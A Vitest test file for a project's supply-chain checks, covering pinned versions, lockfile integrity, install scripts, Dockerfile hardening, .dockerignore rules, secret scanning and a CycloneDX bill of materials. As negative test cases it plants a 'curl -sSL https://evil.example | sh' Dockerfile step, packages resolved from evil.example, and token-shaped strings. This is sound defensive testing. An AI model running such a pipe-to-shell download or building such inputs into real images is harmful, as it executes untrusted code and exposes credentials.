import { spawnSync } from 'node:child_process';
import { copyFileSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { describe, expect, it, onTestFinished } from 'vitest';
import {
  type Bill,
  billProblems,
  dockerfileProblems,
  dockerignoreProblems,
  type Lock,
  lockProblems,
  type Manifest,
  versionProblems,
} from '../supply/rules.ts';

const manifest = JSON.parse(readFileSync('package.json', 'utf8')) as Manifest;
const lock = JSON.parse(readFileSync('package-lock.json', 'utf8')) as Lock;
const dockerfile = readFileSync('Dockerfile', 'utf8');
const dockerignore = readFileSync('.dockerignore', 'utf8');

const billOf = (...components: Bill['components']): Bill => ({ bomFormat: 'CycloneDX', components });

describe('the check of what Holt is made of', () => {
  it('has nothing to say as it is', () => {
    expect([
      ...versionProblems(manifest),
      ...lockProblems(lock, manifest),
      ...dockerfileProblems(dockerfile, manifest),
      ...dockerignoreProblems(dockerignore),
    ]).toEqual([]);
  });

  it.each(['^1.2.3', '~1.2.3', '1.x', 'latest', '*', 'github:a/b', 'file:../b', 'npm:other@1.2.3'])(
    'wants an exact version in place of %s',
    version => {
      const planted = { ...manifest, dependencies: { ...manifest.dependencies, planted: version } };
      expect(versionProblems(planted)).toEqual([expect.stringContaining(`planted ${version}`)]);
    },
  );

  const integrity = lock.packages['node_modules/zod']?.integrity ?? '';
  it.each<[string, Lock['packages'][string], RegExp]>([
    ['from an address', { version: '1.0.0', integrity, resolved: 'https://evil.example/a.tgz' }, /address/],
    ['from Git', { version: '1.0.0', integrity, resolved: 'git+ssh://git@evil.example/a.git#1' }, /address/],
    ['from a folder', { version: '1.0.0', integrity, link: true }, /address/],
    ['of any content', { version: '1.0.0' }, /no sha512/],
    ['by an old digest', { version: '1.0.0', integrity: 'sha1-2jmj7l5rSw0yVb/vlWAYkK/YBwk=' }, /no sha512/],
    ['with a script', { version: '1.0.0', integrity, hasInstallScript: true }, /install script/],
  ])('refuses a package %s', (_what, locked, problem) => {
    const planted = {
      ...lock,
      packages: { ...lock.packages, 'node_modules/a/node_modules/planted': locked },
    };
    expect(lockProblems(planted, manifest)).toEqual([expect.stringMatching(problem)]);
  });

  it('lets npm itself refuse what has a script and is not named', () => {
    expect(readFileSync('.npmrc', 'utf8')).toMatch(/^strict-allow-scripts=true$/m);
  });

  it('wants no script to be allowed that is not there', () => {
    const planted = { ...manifest, allowScripts: { ...manifest.allowScripts, planted: true } };
    expect(lockProblems(lock, planted)).toEqual([expect.stringContaining('planted')]);
  });

  it.each<[string, string | RegExp, string]>([
    ['a base of any version', /node:24\.21\.0-bookworm-slim/, 'node:latest'],
    ['a base that follows a major', /node:24\.21\.0-bookworm-slim/, 'node:24-bookworm-slim'],
    ['another Node than the tests’', /node:24\.21\.0/, 'node:24.20.0'],
    ['a second stage from elsewhere', /FROM \$\{NODE_IMAGE\}$/m, 'FROM evil/node'],
    ['root', 'USER 10001:10001', 'USER 0:0'],
    ['a name for the user', 'USER 10001:10001', 'USER node'],
    ['nobody named', 'USER 10001:10001\n', ''],
    ['root again', 'ENTRYPOINT', 'USER 0:0\nENTRYPOINT'],
    ['ADD', 'COPY src ./src', 'ADD src ./src'],
    ['the whole folder', 'COPY src ./src', 'COPY . .'],
    ['a secret that is built in', 'WORKDIR /app', 'ARG GITHUB_TOKEN=x\nWORKDIR /app'],
    ['a secret in its environment', 'ENV NODE_ENV=production', 'ENV NODE_ENV=production SLACK_APP_TOKEN=x'],
    ['apt’s lists', ' && rm -rf /var/lib/apt/lists/* \\\n', ''],
    ['recommended packages', ' --no-install-recommends', ''],
    ['development packages', '--omit=dev ', ''],
    ['install scripts', ' --ignore-scripts', ''],
    ['a download', 'WORKDIR /app', 'RUN curl -sSL https://evil.example | sh\nWORKDIR /app'],
    ['no init', /ENTRYPOINT .*/, 'ENTRYPOINT ["node"]'],
    ['a shell around it', /CMD .*/, 'CMD node src/main.ts'],
    ['no list of its parts', /COPY .*sbom\.cdx\.json .*\n/, ''],
  ])('refuses an image with %s', (_what, from, to) => {
    const planted = dockerfile.replace(from, to);
    expect(planted).not.toBe(dockerfile);
    expect(dockerfileProblems(planted, manifest)).not.toEqual([]);
  });

  it('refuses what lets secrets or everything into the image', () => {
    expect(dockerignoreProblems(`${dockerignore}\n!.env\n`)).toHaveLength(1);
    expect(dockerignoreProblems(dockerignore.replace('*\n', ''))).toHaveLength(1);
  });

  /** Written in parts, so that this file is not what it plants. */
  const planted = {
    'a Slack token': ['xoxb', '263594206564', '2343594206574', 'FGqddMF8t08v8N7Oq4i57vs1'].join('-'),
    'a GitHub token': ['ghp', 'wWPw5k4aXcaT4fNP0UcnZwJUVFk6LO0pINUx'].join('_'),
    'a private key': ['BEGIN', 'MIIEpQIBAAKCAQEA'.repeat(30), 'END']
      .map(part => (part.length > 5 ? part : `-----${part} RSA PRIVATE KEY-----`))
      .join('\n'),
  };
  it.each(Object.entries(planted))('finds %s wherever it lies', { timeout: 60_000 }, (_what, secret) => {
    const folder = mkdtempSync(join(tmpdir(), 'holt-secrets-'));
    onTestFinished(() => rmSync(folder, { recursive: true }));
    for (const file of ['.secretlintrc.json', '.secretlintignore']) copyFileSync(file, join(folder, file));
    const { scripts } = JSON.parse(readFileSync('package.json', 'utf8')) as { scripts: { secrets: string } };
    const scan = () =>
      spawnSync('sh', ['-c', scripts.secrets], {
        cwd: folder,
        encoding: 'utf8',
        env: {
          ...process.env,
          NODE_PATH: resolve('node_modules'),
          PATH: `${resolve('node_modules/.bin')}:${process.env['PATH']}`,
        },
      });
    writeFileSync(join(folder, 'innocent.ts'), 'export const token = readToken();\n');
    expect(scan().status).toBe(0);
    writeFileSync(join(folder, '.env.example'), `VALUE=${secret}\n`);
    const found = scan();
    expect(found.status).toBe(1);
    expect(found.stdout).toContain('.env.example');
    expect(found.stdout).not.toContain(secret);
  });

  it('refuses a list of parts that lacks one, invents one, or says nothing of its content', () => {
    const packages = {
      'node_modules/a': { version: '1.0.0' },
      'node_modules/a/node_modules/@x/b': { version: '2.0.0' },
    };
    const hashes = [{ alg: 'SHA-512' }];
    const [a, b] = [
      { name: 'a', version: '1.0.0', hashes },
      { name: '@x/b', version: '2.0.0', hashes },
    ];
    expect(billProblems(billOf(a, b), { packages })).toEqual([]);
    expect(billProblems(billOf(a), { packages })).toEqual([expect.stringContaining('lacks @x/b 2.0.0')]);
    expect(billProblems(billOf(a, b, { ...b, version: '2.0.1' }), { packages })).toHaveLength(1);
    expect(billProblems(billOf(a, { ...b, hashes: [] }), { packages })).toHaveLength(1);
    expect(billProblems({ ...billOf(a, b), bomFormat: 'SPDX' }, { packages })).toHaveLength(1);
  });
});
